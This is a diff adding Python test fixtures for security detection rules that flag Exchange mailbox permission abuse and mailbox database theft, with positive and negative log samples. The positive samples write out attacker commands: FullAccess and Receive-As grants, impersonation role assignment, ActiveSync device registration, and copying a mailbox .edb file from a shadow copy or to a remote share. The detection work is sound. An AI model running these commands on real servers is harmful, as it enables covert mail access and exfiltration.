@@ -510,3 +510,41 @@ FIXTURES[R] = [
     neg(R, "agents_listed", "Administrator lists the transport agents.", msx("Get-TransportAgent", "")),
     neg(R, "agent_disabled", "An agent disabled during troubleshooting.", msx("Disable-TransportAgent", "-Identity \"Contoso Disclaimer\"")),
 ]
+
+R = "win_exchange_management_mailbox_access_granted"
+FIXTURES[R] = [
+    pos(R, "full_access_on_ceo_mailbox", "FullAccess on the CEO mailbox for a compromised account, AutoMapping off.",
+        msx("Add-MailboxPermission", "-Identity \"ceo\" -User \"contoso\\mallory\" -AccessRights \"FullAccess\" -InheritanceType \"All\" -AutoMapping \"False\"")),
+    pos(R, "receive_as_on_database", "Receive-As on a whole mailbox database: every mailbox in it becomes readable.",
+        msx("Add-ADPermission", "-Identity \"Mailbox Database 0412\" -User \"contoso\\svc-sync\" -ExtendedRights \"Receive-As\"")),
+    pos(R, "impersonation_role_for_mailsniper", "MailSniper's Invoke-GlobalMailSearch assigns ApplicationImpersonation to its account over remote PowerShell.",
+        msx("New-ManagementRoleAssignment", "-Role \"ApplicationImpersonation\" -User \"bob\"", client="Remote-ManagementShell-Unknown")),
+    pos(R, "send_on_behalf_granted_abbreviated", "Set-Mailbox grants Send-on-Behalf with a colon-bound value.",
+        msx("Set-Mailbox", "-Identity \"cfo\" -GrantSendOnBehalfTo:\"mallory\"")),
+    pos(R, "inbox_opened_to_default", "The Inbox opened to Default (every authenticated user) with Reviewer rights.",
+        msx("Add-MailboxFolderPermission", "-Identity \"ceo:\\Inbox\" -User \"Default\" -AccessRights \"Reviewer\"")),
+    pos(R, "activesync_device_allowed", "Set-CASMailbox allows an attacker-registered ActiveSync device to sync the mailbox.",
+        msx("Set-CASMailbox", "-Identity \"cfo\" -ActiveSyncAllowedDeviceIDs @{add=\"B5F2C8E1A7D34\"}")),
+    neg(R, "read_only_permission_query", "Get-MailboxPermission lists who has access.",
+        msx("Get-MailboxPermission", "-Identity \"ceo\"")),
+    neg(R, "calendar_shared_with_default", "Calendar shared with Default (free/busy): not the Inbox.",
+        msx("Set-MailboxFolderPermission", "-Identity \"bob:\\Calendar\" -User \"Default\" -AccessRights \"LimitedDetails\"")),
+    neg(R, "full_access_removed", "FullAccess removed after an assistant leaves.",
+        msx("Remove-MailboxPermission", "-Identity \"ceo\" -User \"contoso\\old-assistant\" -AccessRights \"FullAccess\" -Confirm \"False\"")),
+    neg(R, "send_on_behalf_cleared", "Set-Mailbox clearing Send-on-Behalf with $null.",
+        msx("Set-Mailbox", "-Identity \"cfo\" -GrantSendOnBehalfTo $null")),
+    neg(R, "activesync_disabled", "Set-CASMailbox turning ActiveSync off.",
+        msx("Set-CASMailbox", "-Identity \"leaver01\" -ActiveSyncEnabled \"False\"")),
+]
+
+EDB = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Mailbox\\Mailbox Database 0412\\Mailbox Database 0412.edb"
+VARIANTS["win_mail_store_copy_or_archive"] += [
+    pos("win_mail_store_copy_or_archive", "esentutl_copies_edb_from_shadow", "esentutl /y copies the mailbox database out of a shadow copy on the Exchange server.",
+        proc("C:\\Windows\\System32\\esentutl.exe", "esentutl.exe /y \"\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy2\\Program Files\\Microsoft\\Exchange Server\\V15\\Mailbox\\Mailbox Database 0412\\Mailbox Database 0412.edb\" /d C:\\Windows\\Temp\\m.edb", "esentutl.exe", host=EXCH)),
+    pos("win_mail_store_copy_or_archive", "cmd_copy_custom_named_edb", "cmd copies a database with a custom name from under ...\\Mailbox\\ (Security 4688).",
+        proc(CMD, "cmd.exe /c copy \"D:\\ExchangeDB\\Mailbox\\DB01\\DB01.edb\" \\\\10.9.8.7\\drop\\", via="security", host=EXCH)),
+    neg("win_mail_store_copy_or_archive", "eseutil_header_dump", "The administrator dumps the database header with eseutil /mh (a daily health check).",
+        proc("C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\eseutil.exe", "eseutil.exe /mh \"" + EDB + "\"", "eseutil.exe", host=EXCH)),
+    neg("win_mail_store_copy_or_archive", "esentutl_copies_search_index", "esentutl copies the Windows Search index (Windows.edb): an ESE database, not mail.",
+        proc("C:\\Windows\\System32\\esentutl.exe", "esentutl.exe /y C:\\ProgramData\\Microsoft\\Search\\Data\\Applications\\Windows\\Windows.edb /d C:\\Temp\\w.edb", "esentutl.exe")),
+]
